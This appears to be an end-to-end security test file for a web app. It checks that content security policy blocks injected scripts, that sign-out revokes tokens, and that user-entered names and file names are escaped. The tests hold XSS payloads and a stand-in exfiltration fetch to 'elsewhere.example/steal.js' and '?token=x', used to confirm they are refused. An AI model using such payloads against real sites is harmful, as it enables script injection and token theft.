import { expect } from 'vitest';
import { siteRoutes } from '../../frontend/site-routes.ts';
import { test } from '../support/e2e.ts';
import { becomeApplicantWithCase } from '../support/new-case.ts';
import { becomeApplicant, mailsTo, newPerson, sees, signIn, signOut } from '../support/people-in-browser.ts';
import { samplePdf } from '../support/sample-files.ts';

/** Every visit is monitored; these are the remaining pages for visitors, and those of emailed links. */
const openToVisitors = siteRoutes
  .filter(({ kind, path }) => kind === 'app' && /^\/(auth|booking|email-settings)/.test(path))
  .map(({ path }) => path);

test('no page of an emailed link, and no sign-in page, violates its own policy', async ({ visit }) => {
  const { page, violations, expectConsole } = await visit();
  expectConsole(/status of 40[0-9]/);
  for (const path of openToVisitors) {
    await page.goto(path);
    await page.getByRole('main').first().waitFor();
  }
  expect(violations).toEqual([]);
});

test('an injected script does not run, and nothing can be sent to other origins', async ({ visit }) => {
  const visitor = await visit();
  visitor.expectConsole(
    /Content Security Policy/,
    /Refused to/,
    /request to https:\/\/elsewhere/,
    /status of 404/,
  );
  const { page, violations } = visitor;
  await page.goto('/');
  await page.evaluate(() => {
    const inline = document.createElement('script');
    inline.textContent = 'window.ran = "inline"';
    const remote = document.createElement('script');
    remote.src = 'https://elsewhere.example/steal.js';
    const data = document.createElement('script');
    data.src = 'data:text/javascript,window.ran="data"';
    document.body.append(inline, remote, data);
    document.body.insertAdjacentHTML('beforeend', '<img src="/none.png" onerror="window.ran=\'handler\'">');
    document.body.insertAdjacentHTML('beforeend', '<a id="bad" href="javascript:window.ran=1">x</a>');
    document.getElementById('bad')?.click();
  });
  const sent = await page.evaluate(async () => {
    try {
      await fetch('https://elsewhere.example/?token=x', { mode: 'no-cors' });
      return 'sent';
    } catch {
      return 'refused';
    }
  });
  expect(sent).toBe('refused');
  await expect.poll(() => violations.length).toBeGreaterThanOrEqual(5);
  expect(await page.evaluate(() => Reflect.get(window, 'ran'))).toBeUndefined();
});

test('signing out revokes the tokens and signs out every other tab', async ({ visit }) => {
  const visitor = await visit();
  visitor.expectConsole(/status of 40[01]/);
  const { page } = visitor;
  const person = newPerson('Tove Lind');
  await becomeApplicant(page, person);
  const other = await page.context().newPage();
  await other.goto('/profile');
  await sees(other, person.email);

  const kept = await page.evaluate(() =>
    Object.fromEntries(Object.entries(localStorage).map(([key, value]) => [key.split('.').at(-1), value])),
  );
  const read = () =>
    page.request.get('/api/profile', { headers: { authorization: `Bearer ${kept.accessToken}` } });
  expect((await read()).status()).toBe(200);

  await signOut(page);
  await other.waitForURL(/\/auth/);
  await expect.poll(async () => (await read()).status()).toBe(401);
  const { userPoolClientId } = await (await page.request.get('/config.json')).json();
  const refreshed = await page.request.post('/cognito-idp/', {
    headers: {
      'content-type': 'application/x-amz-json-1.1',
      'x-amz-target': 'AWSCognitoIdentityProviderService.GetTokensFromRefreshToken',
    },
    data: JSON.stringify({ RefreshToken: kept.refreshToken, ClientId: userPoolClientId }),
  });
  expect([refreshed.status(), (await refreshed.json()).message]).toEqual([
    400,
    'Refresh Token has been revoked',
  ]);
  const left = await page.evaluate(() =>
    Object.values(localStorage).filter((value) => value.startsWith('eyJ')),
  );
  expect(left).toEqual([]);

  await page.goto('/auth');
  await signIn(page, person);
  await page.waitForURL('/dashboard');
});

test('typed text is shown as plain text: on pages, in emails, in file names', async ({ visit }) => {
  const visitor = await visit();
  visitor.expectConsole(/status of 40[0-9]/);
  const { page } = visitor;
  const bad = '"><img src=x onerror="window.ran=1"><script>window.ran=1</script>';
  const person = { ...newPerson('Hostile Name'), fullName: bad };
  const casePage = await becomeApplicantWithCase(page, person, 'US_O1A');
  const fileName = '<img src=x onerror=window.ran=1>.pdf';
  await page.locator('input[type=file]').first().setInputFiles(samplePdf(fileName));
  await page.getByRole('button', { name: `Download ${fileName}` }).waitFor();
  for (const path of ['/dashboard', '/profile', casePage]) {
    await page.goto(path);
    await page.getByRole('main').first().waitFor();
    await page.waitForLoadState('networkidle');
    expect(await page.locator('img[src="x"]').count(), path).toBe(0);
    expect(await page.evaluate(() => Reflect.get(window, 'ran')), path).toBeUndefined();
  }
  const mails = await mailsTo(page, person.email);
  expect(mails.length).toBeGreaterThan(0);
  for (const { html } of mails) expect(html).not.toMatch(/<img src=x|<script/);
});
